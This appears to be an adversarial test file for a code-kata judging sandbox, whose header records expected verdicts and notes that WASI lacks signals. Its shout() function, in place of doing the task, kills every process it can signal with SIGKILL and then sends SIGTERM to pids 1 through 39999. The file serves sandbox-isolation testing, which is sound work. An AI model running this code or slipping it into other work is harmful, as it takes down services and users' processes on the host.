# kata: adv-shout
# verdict: wrong-answer
# verdict[wasm]: runtime-error
# gap[wasm]: WASI has no signals: os.kill does not exist
# attack: SIGKILL every process it may signal (kill -1), then every pid one by one
import os
import signal


def shout(text):
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    for pid in range(1, 40000):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGTERM)
            except OSError:
                pass
    return "nope"
